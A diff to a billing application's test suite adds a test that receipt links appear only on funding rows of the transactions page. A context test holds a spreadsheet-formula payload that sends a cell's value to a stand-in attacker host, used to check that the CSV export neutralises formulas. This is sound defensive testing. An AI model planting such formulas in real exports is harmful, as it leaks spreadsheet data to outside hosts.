@@ -174,6 +174,19 @@ def test_transactions_can_be_filtered_and_exported(client, billing_admin, funded
     assert funding[1:] == ["Funding", funding[2], "100.00", "100.00", "USD", receipt.number]
 
 
+def test_the_transactions_page_links_each_receipt_and_leaves_entries_without_one_blank(client, billing_admin, funded_account):
+    services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo="Call to +44")
+    receipt = funded_account.receipts.get()
+    client.force_login(billing_admin)
+    table = client.get(reverse("billing:transactions")).content.decode().split("<tbody")[1].split("</tbody>")[0]
+    rows = table.split("</tr>")[:-1]
+    assert len(rows) == 2
+    link = f'<a href="{reverse("billing:receipt", args=[receipt.number])}">{receipt.number}</a>'
+    funding, = [row for row in rows if "Funding" in row]
+    charge, = [row for row in rows if "Call to +44" in row]
+    assert link in funding and "<a " not in charge
+
+
 def test_the_transactions_csv_writes_a_formula_in_a_description_as_text_and_amounts_as_numbers(client, billing_admin, funded_account):
     memo = '=HYPERLINK("https://evil.example/?"&A1,"Receipt")'
     services.charge_usage(account_id=funded_account.pk, amount=Decimal("3.50"), idempotency_key="call-1", memo=memo)
